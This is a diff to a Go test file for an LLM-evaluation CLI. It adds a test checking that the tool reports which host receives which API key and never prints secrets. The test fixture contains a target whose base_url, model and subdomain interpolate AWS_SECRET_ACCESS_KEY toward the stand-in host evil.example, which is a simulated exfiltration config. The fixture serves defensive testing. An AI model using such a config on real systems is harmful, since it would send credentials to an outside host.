@@ -54,7 +54,7 @@ func TestTargets(t *testing.T) {
 		args, says string
 		code       int
 	}{
-		{"DIR/evals/x.eval.yaml", "well   openai    gpt    plain      ${{ JUDGE_KEY }}     DIR/.agentv/targets.yaml:2|plain  openai    gpt    -          written in the file|usual  openai    gpt    -          OPENAI_API_KEY", 0},
+		{"DIR/evals/x.eval.yaml", "well   openai    gpt    127.0.0.1:|  plain      ${{ JUDGE_KEY }}     DIR/.agentv/targets.yaml:2|  -          written in the file|usual  openai    gpt    api.openai.com ", 0},
 		{"DIR/evals --format json", `"name": "well",|"key": "${{ JUDGE_KEY }}",|"line": 2`, 0},
 		{"DIR/more", "keyless: `anthropic` needs a key; set ANTHROPIC_API_KEY in the environment (.env files are read for targets.yaml only)|unset: not set in the environment or a .env file beside or above the targets file: NOT_SET_A|other: the provider `vscode` is not built in; write the agent as a `cli` target", 1},
 		{"DIR/more --format json", `"provider": "codex",|"model": "o",`, 1},
@@ -63,7 +63,7 @@ func TestTargets(t *testing.T) {
 		{"DIR/odd", "typo: the provider `opanai` is not built in; did you mean `openai`?|judged: its `judge_target` is `tpyo`, and there is no such target; did you mean `typo`?\nmodel: its `judge_target` is `opneai:gpt`, and there is no such judge; did you mean `openai`?\nhot: its `temperature` is no number of at least 0\nlate: its `timeout_seconds` is no number of at least 0\nlong: its `timeout_seconds` is more than 1000000000000\nless: its `max_retries` is no number of at least 0\nseldom: its `requests_per_minute` is less than 1\n", 1},
 		{"DIR/shapes", "keys: its `api_key` is no text\nheads: its `headers` are not names with a text each\nheader: its `headers` are not names with a text each\ncodes: its `retry_status_codes` are no list of numbers\n" +
 			"code: its `retry_status_codes` are no list of numbers\nagent: its `system_prompt` is no text\nwell: a target above has the same name, and is found in its place\n", 1},
-		{"DIR/unnamed", "it    gemini    own    -          ${{ JUDGE_KEY }}  DIR", 0},
+		{"DIR/unnamed", "it    gemini    own    generativelanguage.googleapis.com  -          ${{ JUDGE_KEY }}  DIR", 0},
 		{"DIR/misspelt", "hot: nothing reads its `temprature`; did you mean `temperature`?\nwell: nothing reads its `methd`\n", 0},
 		{"DIR/misspelt --format json", "\"nothing reads its `methd`\"", 0},
 		{"DIR/empty", "no targets.yaml was found in DIR/empty or above it; --targets names one", 2},
@@ -135,5 +135,54 @@ func TestRunTellsWhatNothingReads(t *testing.T) {
 		if _, _, stderr := rubric(t, "", "run", filepath.Join(dir, "a.eval.yaml"), "--target", target); stderr != "" {
 			t.Errorf("of targets that nobody asks: %s", stderr)
 		}
+	}
+}
+
+// TestWhereKeysGo: the list of targets, a dry run and --check say which host gets which
+// key, and never a key. A dry run says it of the judge of a mock too.
+func TestWhereKeysGo(t *testing.T) {
+	asked := 0
+	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		asked++
+		io.WriteString(w, `{"choices":[{"message":{"content":"y"},"finish_reason":"stop"}]}`)
+	}))
+	defer site.Close()
+	at := strings.TrimPrefix(site.URL, "http://")
+	const secret = "aws-1234567890"
+	for name, value := range map[string]string{"OPENAI_API_KEY": "sk-environment-1", "OPENAI_BASE_URL": "", "AWS_SECRET_ACCESS_KEY": secret, "TEAM": "evals"} {
+		t.Setenv(name, value)
+	}
+	dir := write(t, map[string]string{"x.eval.yaml": good, "local.yaml": "targets: [{ name: local, provider: openai, model: m, base_url: '" + site.URL + "', api_key: '${{ OPENAI_API_KEY }}' }]\n", "targets.yaml": "targets:\n" +
+		"  - { name: evil, provider: openai, base_url: 'http://evil.example:8080/${{ AWS_SECRET_ACCESS_KEY }}', api_key: '${{ OPENAI_API_KEY }}', headers: { X-Team: '${{ TEAM }}' }, model: '${{ AWS_SECRET_ACCESS_KEY }}' }\n" +
+		"  - { name: host, provider: openai, model: m, base_url: 'https://${{ AWS_SECRET_ACCESS_KEY }}.evil.example' }\n" +
+		"  - { name: mockjudged, provider: mock, response: hi, judge_target: evil }\n" +
+		"  - { name: usual, provider: openai, model: gpt-4.1-mini }\n" +
+		"  - { name: resource, provider: azure, endpoint: mine, model: d, api_key: k }\n" +
+		"  - { name: agent, provider: cli, command_template: 'echo {PROMPT}', healthcheck: { type: http, url: '" + site.URL + "/well' } }\n",
+	})
+	sends := "evil` asks http://evil.example:8080 with the key from `OPENAI_API_KEY` of the environment and sends `AWS_SECRET_ACCESS_KEY` in its `base_url`, `AWS_SECRET_ACCESS_KEY` in its `model` and `TEAM` in its `headers`\n"
+	for _, c := range []struct{ args, says string }{
+		{"targets DIR", " HOST |  http://evil.example:8080  |  [key].evil.example  |  api.openai.com  |  mine.openai.azure.com  |  " + at + "  "},
+		{"targets DIR --format json", `"host": "api.openai.com"`},
+		{"run DIR/x.eval.yaml --dry-run --target evil", "        target `" + sends},
+		{"run DIR/x.eval.yaml --dry-run --target mockjudged", "        judge `" + sends},
+		{"run DIR/x.eval.yaml --dry-run --target mockjudged --format json", `"role": "judge",|"host": "http://evil.example:8080",`},
+		{"run DIR/x.eval.yaml --dry-run --target agent", "target `agent` runs `echo` and asks " + at + " whether it is ready\n"},
+		{"run DIR/x.eval.yaml --dry-run --target cli:echo --judge openai:m --judge usual", "target `cli:echo` runs `echo`\n|judge `openai:m` asks api.openai.com with the key from `OPENAI_API_KEY`|judge `usual` asks api.openai.com"},
+		{"targets --check --targets DIR/local.yaml", "rubric: local asks " + at + " with the key from `OPENAI_API_KEY` of the environment\n|local: ok"},
+	} {
+		asked = 0
+		_, stdout, stderr := rubric(t, "", strings.Fields(strings.ReplaceAll(c.args, "DIR", dir))...)
+		for part := range strings.SplitSeq(c.says, "|") {
+			if !strings.Contains(stdout+stderr, part) {
+				t.Errorf("%s: no %q in\n%s%s", c.args, part, stdout, stderr)
+			}
+		}
+		if strings.Contains(stdout+stderr, secret) || strings.Contains(stdout+stderr, "sk-environment") || (asked > 0) != strings.Contains(c.args, "--check") {
+			t.Errorf("%s: a key is shown, or %d requests\n%s%s", c.args, asked, stdout, stderr)
+		}
+	}
+	if _, stdout, _ := rubric(t, "", "run", filepath.Join(dir, "x.eval.yaml"), "--dry-run"); strings.Contains(stdout, "asks ") {
+		t.Error(stdout)
 	}
 }
